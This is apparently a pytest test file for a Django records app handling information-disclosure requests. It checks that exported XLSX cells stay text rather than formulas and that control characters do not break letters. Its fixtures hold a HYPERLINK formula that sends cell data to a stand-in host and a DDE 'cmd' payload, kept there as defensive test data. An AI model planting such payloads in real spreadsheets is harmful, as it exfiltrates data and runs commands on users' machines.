"""Issue 10 defects 1 and 2 for cases: hostile text in an application never becomes a live formula in the case
export, and text already stored with control characters (old data) never breaks the export, the letters or
sending them."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from gongkai.cases import letters
from gongkai.cases import transitions as t
from gongkai.cases.applicants import create_applicant
from gongkai.cases.models import InformationRequest, Letter
from gongkai.cases.views import EXPORT_COLUMNS
from tests.conftest import PASSWORD, Personas, Tree

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
SUBJECT = "=cmd|' /C calc'!A0"
CONTROL = "申请公开\x01\x02\x0b\x0c\x1f2025年招生计划"
CLEAN = "申请公开2025年招生计划"


@pytest.fixture(autouse=True)
def media(settings, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path


def client_for(username: str) -> Client:
    client = Client()
    assert client.login(username=username, password=PASSWORD)
    return client


def new_case(tree: Tree, personas: Personas, name: str = "陈七", subject: str = CLEAN) -> InformationRequest:
    applicant = create_applicant(
        "t", kind="natural", name="陈七", id_document="resident_id", id_number="11010519491231002X"
    )
    # Stored as old data would be (before input was normalised): straight through the ORM.
    type(applicant).objects.filter(pk=applicant.pk).update(name=name)
    applicant.refresh_from_db()
    req = t.register(
        personas.clerk,
        tree.education,
        received=dt.date(2026, 3, 9),
        channel="letter",
        subject="申请公开2025年招生计划",
        applicant=applicant,
    )
    InformationRequest.objects.filter(pk=req.pk).update(subject=subject)
    req.refresh_from_db()
    return req


def exported(personas: Personas) -> list[list[object]]:
    response = client_for(personas.clerk.username).get("/staff/cases/export.xlsx?view=all")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_formula_like_names_and_subjects_are_exported_as_text(tree: Tree, personas: Personas) -> None:
    new_case(tree, personas, name=NAME, subject=SUBJECT)
    response = client_for(personas.clerk.username).get("/staff/cases/export.xlsx?view=all")
    sheet = load_workbook(io.BytesIO(response.content)).active
    columns = [str(label) for label, _get in EXPORT_COLUMNS]
    subject = sheet.cell(2, columns.index("申请内容") + 1)
    name = sheet.cell(2, columns.index("申请人") + 1)
    assert (subject.value, subject.data_type) == (SUBJECT, "s")
    assert (name.value, name.data_type) == (NAME, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # the dates stay dates
    assert isinstance(sheet.cell(2, 1).value, dt.datetime)


def test_stored_control_characters_do_not_break_the_export(tree: Tree, personas: Personas) -> None:
    new_case(tree, personas, subject=CONTROL)
    rows = exported(personas)
    assert CLEAN in rows[1]


def test_letter_docx_and_pdf_render_a_subject_with_control_characters(tree: Tree, personas: Personas) -> None:
    req = new_case(tree, personas, subject=CONTROL)
    event = req.events.get(kind="registered")
    clerk = client_for(personas.clerk.username)
    docx = clerk.get(f"/staff/cases/{req.pk}/letters/{event.pk}.docx")
    assert docx.status_code == 200
    from docx import Document

    body = "\n".join(p.text for p in Document(io.BytesIO(docx.content)).paragraphs)
    assert "2025年招生计划" in body and "\x01" not in body
    pdf = clerk.get(f"/staff/cases/{req.pk}/letters/{event.pk}.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", "-", "-"], input=pdf.content, capture_output=True, check=True
        ).stdout.decode()
        assert "2025年招生计划" in text


def test_the_statutory_letter_can_be_sent_for_such_a_subject(tree: Tree, personas: Personas) -> None:
    req = new_case(tree, personas, subject=CONTROL)
    event = req.events.get(kind="registered")
    response = client_for(personas.clerk.username).post(
        f"/staff/cases/{req.pk}/letters/{event.pk}/send", {"on": "2026-03-09"}
    )
    assert response.status_code == 302
    letter = Letter.objects.get(event=event)
    from docx import Document

    body = "\n".join(p.text for p in Document(io.BytesIO(letter.docx.read())).paragraphs)
    assert "2025年招生计划" in body


def test_printable_removes_only_the_illegal_characters(tree: Tree, personas: Personas) -> None:
    req = new_case(tree, personas, subject=CONTROL)
    content = letters.printable(letters.compose(req.events.get(kind="registered")))
    assert "申请获取“2025年招生计划”" in content.paragraphs[0]
